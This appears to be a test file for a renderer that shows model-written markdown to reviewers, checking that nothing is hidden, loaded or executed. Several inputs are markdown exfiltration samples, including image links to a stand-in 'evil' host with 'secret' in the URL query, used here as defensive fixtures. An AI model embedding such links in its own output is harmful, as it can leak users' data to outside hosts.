"""What a model wrote, as reviewers read it: nothing of it runs, loads, or is hidden."""

from __future__ import annotations

import html
import re
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from feedback.labelling.prose import prose

TAG = re.compile(r"<[^>]*>")
PIECES = ("a", "Ω", "다", " ", "\n", "|", "-", "*", "_", "`", "[", "]", "(", ")", "!", "<", ">", ":", "http://x/",
          "1. ",          "# ", "    ", "&amp;", '"', "\\", "~~~", "<b>", "\n\n")  # fmt: skip


def read(text: str) -> str:
    return html.unescape(TAG.sub(" ", str(prose(text))))


@pytest.mark.parametrize(
    ("text", "hidden"),
    [
        ('[x]: http://evil "secret"\n\nhi', "secret"),
        ("![alt](http://evil/?q=secret)", "http://evil/?q=secret"),
        ("![alt](http://evil/한국)", "http://evil/한국"),
        ('[a](http://x "secret")', "secret"),
        ("```python secret\ncode\n```", "secret"),
        ("|a|\n|-|\n|x|secret|", "secret"),
        (">" * 60 + " secret", "secret"),
        ("".join(" " * (2 * level) + "- x\n" for level in range(60)) + " " * 120 + "- secret", "secret"),
        ("<!-- secret -->", "secret"),
        ("a " * 12_000 + "secret", "secret"),
    ],
)
def test_nothing_is_hidden(text: str, hidden: str) -> None:
    assert hidden in read(text)


@given(st.lists(st.sampled_from(PIECES), max_size=60).map("".join))
def test_every_word_is_read_and_nothing_runs_or_loads(text: str) -> None:
    made = str(prose(text))
    assert set(re.findall(r"[^\W\d_]+", html.unescape(text))) <= set(re.findall(r"[^\W\d_]+", read(text)))
    assert not re.search(r"<(a|img|b|script|style|iframe)[ >]", made)
    assert "=" not in "".join(re.findall(r"<[^>]*>", made)).replace('class="small"', "").replace("start=", "")


def test_what_would_be_a_huge_page_is_shown_as_it_was_written() -> None:
    sparse = "|" + "a|" * 300 + "\n|" + "-|" * 300 + "\n" + "|x\n" * 5000
    begin = time.process_time()
    made = str(prose(sparse))
    assert len(made) < 2 * len(sparse)
    assert time.process_time() - begin < 5
